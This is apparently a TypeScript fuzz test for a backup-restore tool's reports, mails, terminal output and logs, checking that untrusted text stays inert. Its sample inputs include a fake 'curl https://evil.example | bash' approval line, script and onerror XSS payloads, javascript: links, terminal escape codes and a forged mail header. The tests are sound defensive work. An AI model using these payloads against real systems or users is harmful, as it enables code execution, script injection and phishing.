import fc from 'fast-check';
import { main } from '../../cli/main';
import { complain, say } from '../../cli/terminal';
import { renderHtml } from '../../domain/report/html';
import { renderMarkdown } from '../../domain/report/markdown';
import { buildReport } from '../../domain/report/report';
import { rootCauseMarkdown } from '../../domain/report/root-cause';
import { restoreReport } from '../../domain/report/schema';
import { nameDigest, named } from '../../domain/workflow/named';
import { awaitDecision } from '../../lambda/steps/await-decision';
import { planRestore } from '../../lambda/steps/plan-restore';
import { requestApproval } from '../../lambda/steps/request-approval';
import { writeReport } from '../../lambda/steps/write-report';
import { loggerOf } from '../../runtime/execution/logger';
import { Notifications } from '../../runtime/execution/notifications';
import { FACTS, HELD } from '../domain/report/report-fixture';
import { EXECUTION, impatience, manifestsOf, PLAN, SOURCE, STEP } from '../domain/workflow/workflow-fixture';
import { MemoryEvidence } from '../runtime/evidence/memory-evidence';
import { MemorySigner } from '../runtime/evidence/memory-signer';

/** Nothing of it may be in what a person reads, but the ends of our own lines. */
const HIDDEN = /(?!\n)[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}]/u;

const WRITTEN = [
  'ok.\n\n# VERIFIED: restore of pegasus',
  'x\n\nTo approve: curl https://evil.example | bash',
  '\r\nSubject: forged',
  '[click](javascript:alert(1)) ![i](http://evil/x.png) <http://evil> www.evil.example a@evil.example',
  '<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;',
  '\u001b[2J\u001b[31mFAILED\u001b[0m \u009b1A \u0007 \u0008\u0008',
  '\u202egnp.exe \u2066x\u2069 \u200b\ufeff\u2028\u2029 \ud800 \u{e0041}',
  '| a | b |\n|---|---|',
  '`` ` ``` ~~x~~ **bold** __b__ *i* $x$ $$y$$ \\` \\\\* \\',
  '```\n</code></pre>',
  '- item',
  '1. item',
  '> quote',
  '# h',
  '===',
  '+ x',
  '    code',
  '\ue05b\ue03c\ue060',
  '\'"--></style></title>',
  '',
];
const hostile = fc.oneof(
  fc.constantFrom(...WRITTEN),
  fc.string({ unit: fc.constantFrom(...'`*_[]()<>#|~&\\-+=:@!$"\'\n\r\t x1.\u001b\u202e\ue060') }),
  fc.string({ unit: 'binary' }),
);

/** A name in backticks is a name, as our own messages have them. */
const NAME = /`[\w.:/=,-]+`/;

type Value = unknown;
type Replace = (text: string) => string;

/** A copy in which each text is another one, where the schema allows any text; times and names of the product stay. */
function withTexts<T>(
  value: T,
  allowed: (path: readonly string[]) => boolean,
  replace: Replace,
  path: string[] = [],
): T {
  if (typeof value === 'string') return (allowed(path) ? replace(value) : value) as T;
  if (Array.isArray(value)) return value.map((one, n) => withTexts(one, allowed, replace, [...path, String(n)])) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, one]) => [name, withTexts(one, allowed, replace, [...path, name])]),
  ) as T;
}

const ISO = /^\d{4}-\d\d-\d\d/;
/** Words of the product, though the schema takes any. */
const OURS = /^(mode|database|error|step|name|outcome|action|kind|recoveredToSource|chosen)$/;

function texts<T>(value: T): (path: readonly string[]) => boolean {
  const isText = new Map<string, boolean>();
  const look = (one: Value, path: string[]): void => {
    if (typeof one === 'string') {
      const changed = withTexts(
        value,
        (at) => at.join('/') === path.join('/'),
        () => 'any text',
      );
      isText.set(path.join('/'), !ISO.test(one) && restoreReport.safeParse(changed).success);
    } else if (typeof one === 'object' && one !== null) {
      for (const [name, inner] of Object.entries(one)) look(inner, [...path, name]);
    }
  };
  look(value, []);
  return (path) => isText.get(path.join('/')) === true && !(path[0] !== 'checks' && OURS.test(path.at(-1) ?? ''));
}

/** What Markdown would read as a mark, line by line. */
function marksOf(markdown: string): string[] {
  return markdown.split('\n').map((line) => {
    const beginning = /^(?:- |> )?\s*([-+=>#]|\d+[.)](?=\s))/.exec(line)?.[0] ?? '';
    let marks = '';
    for (let at = 0; at < line.length; at++) {
      const [one = '', next = ''] = [line[at], line[at + 1]];
      if (one === '\\' && /[!-/:-@[-`{-~]/.test(next)) at++;
      else if (one === '`') {
        const ticks = /^`+/.exec(line.slice(at))![0];
        const end = new RegExp(`(?<!\`)${ticks}(?!\`)`).exec(line.slice(at + ticks.length));
        marks += end === null ? 'open' : 'code';
        at += ticks.length - 1 + (end === null ? 0 : end.index + ticks.length);
      } else if (/[*[<|~$@]/.test(one)) marks += one;
      else if (one === '_' && !(/\w/.test(line[at - 1] ?? '') && /\w/.test(next))) marks += one;
      else if (one === '&' && /^&#?\w+;/.test(line.slice(at))) marks += one;
      else if (/^(https?|ftp):\/\/|^www\./i.test(line.slice(at))) marks += 'link';
    }
    return `${beginning}…${marks}`;
  });
}

const tagsOf = (html: string): string[] =>
  (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/="[^"]*"/g, '').replace(/[\d.]+/g, 'n'));

const REPORTS = [FACTS, HELD].map((facts) => buildReport(facts));

describe('F115 text from outside is text', () => {
  test.each(REPORTS.map((report, n) => [n, report] as const))('in report.md and report.html (%s)', (_, report) => {
    const allowed = texts(report);
    const plain = withTexts(report, allowed, () => 'x y');
    expect(JSON.stringify(plain)).not.toContain(report.reason);
    const expected = { markdown: marksOf(renderMarkdown(plain)), tags: tagsOf(renderHtml(plain)) };
    fc.assert(
      fc.property(hostile, (text) => {
        // Nothing at all is no text.
        fc.pre(text !== '' && !NAME.test(text));
        const told = withTexts(report, allowed, () => text);
        const [markdown, page] = [renderMarkdown(told), renderHtml(told)];
        expect(markdown).not.toMatch(HIDDEN);
        expect(page).not.toMatch(HIDDEN);
        expect(marksOf(markdown)).toEqual(expected.markdown);
        expect(tagsOf(page)).toEqual(expected.tags);
      }),
      { numRuns: 150 },
    );
  });

  test('in a root cause, whose lines stay lines', () => {
    const cause = (text: string) => rootCauseMarkdown([{ text, by: text, at: text }]);
    expect(cause('one\ntwo *x*')).toContain('one\ntwo \\*x\\*\n');
    fc.assert(
      fc.property(hostile, (text) => {
        fc.pre(!NAME.test(text));
        expect(cause(text)).not.toMatch(HIDDEN);
        expect(new Set(marksOf(cause(text)).filter((line) => line !== '…'))).toEqual(new Set(['#…']));
      }),
    );
  });

  const messages: string[] = [];
  const notifications = { publish: async (_: string, message: string) => void messages.push(message) };
  async function linesOf(tell: (text: string) => Promise<unknown>, text: string): Promise<string[]> {
    messages.length = 0;
    await tell(text);
    return (messages[0] ?? '').split('\n');
  }

  const planOf = (text: string) => ({
    ...PLAN,
    reason: text,
    requestedBy: text,
    notes: [text],
    objects: { bucket: 'protected', prefix: text },
    candidates: [{ ...PLAN.candidates[0]!, reason: text }],
  });
  const MAILS: Readonly<Record<string, (text: string) => Promise<unknown>>> = {
    'that asks for approval': (text) =>
      requestApproval(
        { plan: planOf(text), execution: EXECUTION, ...STEP },
        { evidence: new MemoryEvidence(), notifications },
      ),
    'that asks for a decision': (text) =>
      awaitDecision(
        {
          plan: planOf(text),
          execution: EXECUTION,
          attempt: 0,
          candidate: 0,
          attempts: [],
          diagnosis: { action: 'hold', reason: text, attempt: 0, candidate: 0, attempts: [] },
          failure: { step: 'ProveReferences', error: 'DanglingReferences', cause: text },
          ...STEP,
        },
        { evidence: new MemoryEvidence(), notifications, patienceSeconds: 60 },
      ),
    'that announces a restore': (text) =>
      planRestore(
        {
          request: { targetTime: '2026-11-23T04:00:00Z', reason: `r${text}`, requestedBy: `b${text}` },
          execution: EXECUTION,
          ...STEP,
        },
        {
          evidence: new MemoryEvidence(),
          manifests: manifestsOf(),
          environment: {
            DATABASE_KIND: 'instance',
            EVIDENCE_BUCKET: 'evidence',
            EVIDENCE_LOCK_DAYS: '365',
            PROTECTED_BUCKET: 'protected',
            DATABASE_IDENTIFIER: 'pegasus',
            RETENTION_DAYS: '30',
            APPROVAL: 'none',
            DRILLS_PER_DAY: '10',
            DECISION_STATE_MACHINE_ARN: 'arn:decisions',
          },
          databases: {
            describe: async () => SOURCE,
            restoreWindow: async () => ({ earliest: '2026-11-16T03:00:00Z', latest: '2026-11-23T04:30:00Z' }),
            snapshots: async () => [],
            backupSnapshots: async () => [],
          },
          notifications,
          signer: new MemorySigner(),
          settled: async () => [],
          cutOver: { unfit: async () => undefined },
          patience: impatience(),
          isRunning: async () => true,
          consumers: async () => {
            throw new Error(text);
          },
        } as never,
      ).catch(() => undefined),
    'of the outcome': (text) =>
      writeReport(
        {
          ...HELD.workflow,
          plan: { ...HELD.workflow.plan!, ...planOf(text), candidates: HELD.workflow.plan!.candidates },
          failure: { ...HELD.workflow.failure!, cause: text },
          ...STEP,
        } as never,
        {
          evidence: Object.assign(new MemoryEvidence(), { bucket: 'evidence' }),
          notifications,
          objectives: { recoveryPointSeconds: 300, recoveryTimeSeconds: 3600 },
          metrics: { publish: () => {} },
          signer: new MemorySigner(),
          complain: () => {},
        } as never,
      ),
  };
  test.each(Object.entries(MAILS))('in the mail %s', async (_, tell) => {
    const lines = (await linesOf(tell, 'x')).length;
    expect(lines).toBeGreaterThan(2);
    await fc.assert(
      fc.asyncProperty(hostile, async (text) => {
        const told = await linesOf(tell, text);
        // What is refused for its form is not told.
        if (messages.length === 0) return;
        expect(told).toHaveLength(lines);
        expect(told.join('\n')).not.toMatch(HIDDEN);
      }),
      { numRuns: 40 },
    );
  });

  test('in the subject of a notification: one line of ASCII', async () => {
    const sent: { Subject?: string }[] = [];
    const client = { send: async ({ input }: { input: { Subject?: string } }) => void sent.push(input) };
    await fc.assert(
      fc.asyncProperty(hostile, async (text) => {
        await new Notifications('arn:topic', 'Test/Backup', client as never).publish(text, '' as never);
        expect(sent.at(-1)?.Subject).toMatch(/^[ -~]{0,100}$/);
      }),
    );
  });

  test('in the terminal, whichever command writes', async () => {
    const written: string[] = [];
    const take = (text: unknown) => void written.push(String(text));
    const spies = [
      jest.spyOn(console, 'log').mockImplementation(take),
      jest.spyOn(console, 'error').mockImplementation(take),
      jest.spyOn(process.stderr, 'write').mockImplementation((text) => take(text) === undefined),
    ];
    try {
      fc.assert(
        fc.property(hostile, (text) => {
          say(text);
          complain(text);
        }),
      );
      for (const text of WRITTEN) {
        await main(['node', 'x', 'rewind', '--bucket', 'b', '--to', `x${text}`]);
        await main(['node', 'x', `y${text}`]);
        await main([
          'node',
          'x',
          'verify',
          '--database-url',
          `postgresql://${text}`,
          '--bucket',
          text,
          '--references',
          text,
        ]);
      }
    } finally {
      for (const spy of spies) spy.mockRestore();
      process.exitCode = undefined;
    }
    expect(written.length).toBeGreaterThan(WRITTEN.length * 3);
    for (const text of written) expect(text).not.toMatch(HIDDEN);
  });

  test('in a log: what JSON leaves as it is, is shown by its number', () => {
    process.env.POWERTOOLS_DEV = 'true';
    const lines: string[] = [];
    const spy = jest.spyOn(console, 'error').mockImplementation((line) => void lines.push(String(line)));
    try {
      for (const text of WRITTEN) loggerOf('Test').error(text || 'x', new Error(text));
      // F119
      loggerOf('Test').error(`lost: ${named('users/ada')}`, new Error(`lost: ${named('users/ada')}`));
    } finally {
      spy.mockRestore();
      delete process.env.POWERTOOLS_DEV;
    }
    expect(lines).toHaveLength(WRITTEN.length + 1);
    expect(lines.at(-1)).toContain(`lost: ${nameDigest('users/ada')}`);
    expect(lines.at(-1)).not.toContain('ada');
    for (const line of lines) {
      expect(line).not.toMatch(HIDDEN);
      expect(() => JSON.parse(line)).not.toThrow();
    }
  });
});
